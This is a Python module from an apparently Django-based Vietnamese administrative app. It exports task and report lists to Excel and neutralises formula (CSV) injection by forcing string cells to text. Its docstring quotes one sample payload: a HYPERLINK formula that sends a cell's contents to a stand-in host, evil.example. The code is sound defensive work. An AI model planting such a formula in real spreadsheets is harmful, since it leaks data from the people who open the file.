"""Excel exports of the lists leaders act on (openpyxl): Vietnamese headings, dates as
dd/mm/yyyy, a frozen header row and widths that fit.

Every text is written as text: what officials type (a task's title, a report's proposals)
may begin with "=" and would otherwise become a live formula in the leaders' spreadsheet
(``=HYPERLINK("http://evil.example/?"&A1, "Xem")``)."""

from collections.abc import Iterable, Sequence
from datetime import date
from io import BytesIO

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import Cell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What Excel, LibreOffice and CSV readers take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _as_text(cell: Cell) -> None:
    """Keep a string cell a string: never a formula, and shown with Excel's quote prefix
    (the leading apostrophe) so that editing it does not turn it into one either."""
    if cell.data_type == "f" or (
        isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
    ):
        cell.data_type = "s"
        cell.quotePrefix = True


def keep_text(sheet: Worksheet) -> None:
    """Every string cell of ``sheet`` written as text (call it once the rows are in)."""
    for row in sheet.iter_rows():
        for cell in row:
            _as_text(cell)


def workbook_response(
    *, filename: str, title: str, headings: Sequence[tuple[str, int]], rows: Iterable[Sequence]
) -> HttpResponse:
    """An .xlsx download; ``headings`` are (text, width in characters)."""
    book = Workbook()
    sheet = book.active
    sheet.title = title[:31]
    sheet.append([text for text, _width in headings])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="DDE7F0")
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    for index, (_text, width) in enumerate(headings, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    for row in rows:
        sheet.append(list(row))
    keep_text(sheet)
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, date):
                cell.number_format = "DD/MM/YYYY"
            cell.alignment = Alignment(wrap_text=True, vertical="top")
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = sheet.dimensions
    buffer = BytesIO()
    book.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
